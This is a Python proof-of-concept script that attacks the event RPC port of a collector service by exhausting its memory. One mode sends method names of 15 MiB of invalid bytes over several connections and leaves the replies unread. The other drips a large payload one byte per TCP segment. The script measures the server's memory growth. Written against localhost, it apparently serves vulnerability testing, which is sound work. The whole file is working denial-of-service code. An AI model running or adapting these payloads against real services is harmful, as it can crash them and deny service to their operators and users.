"""Memory amplification on the event RPC port (collectorSource/rpcSource).
usage: rpc_amplify.py PORT NODEPID MODE
  name  : K connections each send a call to an unknown method whose name is 15 MiB of 0xFF
          and never read the answer: the server builds an exception reply that holds the name
          twice, each invalid byte turned into U+FFFD (3 bytes): ~90 MiB per connection.
  drip  : one connection announces a 4 MiB payload and sends it 1 byte per TCP segment;
          the reader keeps every recv() result as its own bytes object in a list."""
import sys, socket, os, time
sys.path.insert(0, os.path.dirname(__file__))
from thriftraw import *
port, pid, mode = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
print("before: RSS", rss_kb(pid) // 1024, "MiB, threads", threads(pid))
socks = []
t0 = time.time()
if mode == "name":
    k = int(sys.argv[4]) if len(sys.argv) > 4 else 4
    name = b"\xff" * (15 << 20)
    for i in range(k):
        c = socket.create_connection(("127.0.0.1", port))
        c.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        c.sendall(struct.pack(">I", 0x80010001) + s(name) + struct.pack(">i", 0) + b"\x00")
        socks.append(c)
    peak = 0
    while time.time() - t0 < 20:
        peak = max(peak, rss_kb(pid)); time.sleep(0.2)
    print(f"{k} conns x 15 MiB name, answers unread: peak RSS", peak // 1024, "MiB")
elif mode == "drip":
    n = int(sys.argv[4]) if len(sys.argv) > 4 else (1 << 20)
    c = socket.create_connection(("127.0.0.1", port))
    c.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    c.sendall(header("appendPacked") + b"\x0b\x00\x01" + struct.pack(">i", n))
    sent = 0
    while sent < n and time.time() - t0 < 60:
        c.send(b"a"); sent += 1
        if sent % 64 == 0: time.sleep(0.0005)
    print(f"dripped {sent} bytes in {time.time()-t0:.1f} s; RSS now", rss_kb(pid) // 1024, "MiB")
    socks.append(c)
for c in socks: c.close()
time.sleep(2)
print("after close: RSS", rss_kb(pid) // 1024, "MiB, threads", threads(pid))
